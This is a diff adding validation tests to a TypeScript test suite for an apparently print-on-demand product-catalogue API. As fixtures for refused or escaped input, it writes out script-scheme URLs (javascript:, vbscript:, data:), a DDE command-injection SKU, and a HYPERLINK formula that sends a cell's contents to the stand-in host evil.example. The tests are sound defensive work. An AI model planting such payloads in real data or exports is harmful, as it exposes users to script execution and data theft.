@@ -2,11 +2,13 @@ import { eq, sql } from 'drizzle-orm';
 import {
   PRODUCT_TYPE_LIMITS,
   PRODUCT_TYPE_MESSAGES as M,
+  MONEY_MAX,
   SERVER_MESSAGES,
   USER_ROLES,
   type UserRole,
 } from '@podoffice/domain';
 import {
+  carriers,
   partnerFulfillments,
   productTypeCarriers,
   productTypePartnerVariants,
@@ -271,10 +273,11 @@ describe('productTypes list', () => {
     expect(await api.refused(LIST, { filter: { search: 'x'.repeat(101) } }, admin)).toBe(
       ARG_MESSAGES.search(100),
     );
-    // Variants come with one type (or productTypeByIds' 50), never with a page of up to 9,999.
+    // Variants come with one type (or productTypeByIds' 50), never with a page (a page of 9,999
+    // with theirs is refused sooner, by the list cost estimate: issue 23 §3).
     expect(
       await api.refused(
-        '{ productTypes(filter: { limit: 9999 }) { hits { id variants { id } } } }',
+        '{ productTypes(filter: { limit: 50 }) { hits { id variants { id } } } }',
         {},
         admin,
       ),
@@ -530,6 +533,26 @@ describe('createProductType and updateProductType', () => {
     ).toBe(M.skuDuplicated);
   });
 
+  test('an inactive (deleted) carrier is refused by name and nothing is stored', async () => {
+    const [gone] = await api.server.db
+      .insert(carriers)
+      .values({
+        name: 'Gone Post',
+        code: 'GONE23',
+        url: 'https://gone.example/{tracking_number}',
+        status: false,
+      })
+      .returning({ id: carriers.id });
+    const before = await tables();
+    const input = await formInput({
+      product_type_carriers: [{ carrier_id: String(gone!.id), price: 1, default: true }],
+    });
+    expect(await api.refused(CREATE, { input }, await token('Listing'))).toBe(
+      M.carrierInactive('Gone Post'),
+    );
+    expect(await tables()).toEqual(before);
+  });
+
   test('bad input gets the §5 message and stores nothing', async () => {
     const listing = await token('Listing');
     const admin = await api.idOf('admin@podoffice.test');
@@ -552,9 +575,30 @@ describe('createProductType and updateProductType', () => {
       [{ product_type_carriers: [{ carrier_id: '1', price: -1 }] }, M.carrierPriceIncorrect],
       [{ product_type_carriers: [{ carrier_id: '99999', price: 1 }] }, M.carrierInvalid],
       [{ product_type_carriers: [{ carrier_id: '1', price: 1e12 }] }, M.carrierPriceIncorrect],
+      // Issue 23 §11: spec 2 §4's one default carrier, refused rather than chosen for the caller.
+      [
+        {
+          product_type_carriers: [
+            { carrier_id: '1', price: 1, default: true },
+            { carrier_id: '2', price: 2, default: true },
+          ],
+        },
+        M.carrierDefaultTwice,
+      ],
       [{ suppliers: [String(admin)] }, M.supplierInvalid],
       [{ categories: ['99999'] }, M.categoryInvalid],
       [{ tag: 'Cheap' }, M.tagInvalid],
+      // Issue 23 §10: stored addresses are http(s), as carriers' url are.
+      [{ link_template: 'javascript:alert(1)' }, M.addressInvalid('Link Template')],
+      [{ mockup: 'java script:alert(document.cookie)' }, M.addressInvalid('Mockup Link')],
+      [
+        { images: ['https://cdn.example.com/a.png', 'data:text/html,<b>x</b>'] },
+        M.addressInvalid('Image'),
+      ],
+      [
+        { print_files: [{ title: 'Front', mockup: 'vbscript:msgbox(1)', default: true }] },
+        M.addressInvalid('Print area mockup'),
+      ],
       // The bounds of PRODUCT_TYPE_LIMITS: nothing stores megabytes in one row.
       [
         { images: Array(PRODUCT_TYPE_LIMITS.imagesMax + 1).fill('https://x.test/a.png') },
@@ -1041,6 +1085,16 @@ describe('createProductTypeVariant: the whole grid in one transaction', () => {
     expect(
       await api.refused(SAVE_GRID, { input: { productTypeId: id, variants: rows } }, listing),
     ).toBe(M.sellerCostIncorrect);
+    // Issue 23 §8: within a cents column but beyond any price; a fee ship that a quantity of 3
+    // multiplied past it.
+    rows[1500] = { ...rows[1500]!, base_cost: MONEY_MAX + 0.01 };
+    expect(
+      await api.refused(SAVE_GRID, { input: { productTypeId: id, variants: rows } }, listing),
+    ).toBe(M.sellerCostIncorrect);
+    rows[1500] = { ...rows[1500]!, base_cost: 1, fee_ship: 21474836.47 };
+    expect(
+      await api.refused(SAVE_GRID, { input: { productTypeId: id, variants: rows } }, listing),
+    ).toBe(M.feeShipIncorrect);
     const after = await byId(id);
     expect(after.variants.map((v) => v.retail_cost)).toEqual(
       grid.variants.map((v) => v.retail_cost),
@@ -1072,6 +1126,26 @@ describe('createProductTypeVariant: the whole grid in one transaction', () => {
       M.variantOptionMissing,
     );
     expect(await save([row('Red', 'S', ' ')])).toBe(M.skuRequired);
+    // Issue 23 §11: an option the type does not have; two default carriers on one variant.
+    expect(await save([row('Red', 'XXL')])).toBe(M.variantOptionUnknown('XXL'));
+    const [usps, ups] = type.product_type_carriers;
+    expect(
+      await save([
+        {
+          ...row('Red', 'S'),
+          carrier_costs: [
+            { carrier_id: usps!.carrier_id, cost: 1, default: true },
+            { carrier_id: ups!.carrier_id, cost: 2, default: true },
+          ],
+        },
+      ]),
+    ).toBe(M.carrierDefaultTwice);
+    // Issue 23 §7: a 1 MB sku failed inside the database; a sku follows the form's character rule.
+    expect(await save([row('Red', 'S', 'A'.repeat(1_000_000))])).toBe(SERVER_MESSAGES.textTooLong);
+    expect(await save([row('Red', 'S', 'A'.repeat(PRODUCT_TYPE_LIMITS.variantSkuMax + 1))])).toBe(
+      M.variantSkuInvalid,
+    );
+    expect(await save([row('Red', 'S', "=cmd|' /C calc'!A0")])).toBe(M.variantSkuInvalid);
     const many = Array.from({ length: PRODUCT_TYPE_LIMITS.variantsMax + 1 }, (_, i) =>
       row(`c${i}`, 'S'),
     );
@@ -1363,6 +1437,36 @@ describe('exportCatalog', () => {
       expect(lines[1]).toContain('MUG-11OZ-WHITE');
     },
   );
+
+  // Issue 23 §2: these came out of the catalogue export as live formulas. Variant skus are refused
+  // on save now (§7), so they are written here as data stored before that rule.
+  test('titles and skus written as formulas come out as text, through the one CSV writer', async () => {
+    const title = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+    const type = await create({ title, sku: 'EVIL23' });
+    const skus = ["=cmd|' /C calc'!A0", '+SUM(1)', '-1+1', '@A1', '\tTAB', '\rCR'];
+    await api.server.db.insert(productTypeVariants).values(
+      skus.map((sku, i) => ({
+        productTypeId: Number(type.id),
+        sku,
+        signature: `evil-${i}`,
+        attributes: [{ name: 'Color', slug: 'color', option: sku }],
+      })),
+    );
+    const url = (
+      await api.ok<{ exportCatalog: string }>(
+        EXPORT,
+        { ids: [type.id] },
+        await special('Administrator'),
+      )
+    ).exportCatalog;
+    const csv = await (await fetch(new URL(url, api.server.url))).text();
+    // A field starts after a comma or a line break, quoted or not; none starts a formula.
+    expect(csv).not.toMatch(/(^|,|\r\n)"?[=+\-@\t\r]/);
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
+    for (const sku of ["'=cmd|' /C calc'!A0", "'+SUM(1)", "'-1+1", "'@A1"]) {
+      expect(csv).toContain(`,${sku},`);
+    }
+  });
 
   test('refused to other roles and to a seller without is_special; a paused type is not exported; ids bounded', async () => {
     for (const role of ['Listing', 'Supporter', 'Supplier', 'Accounting', 'Seller'] as const) {
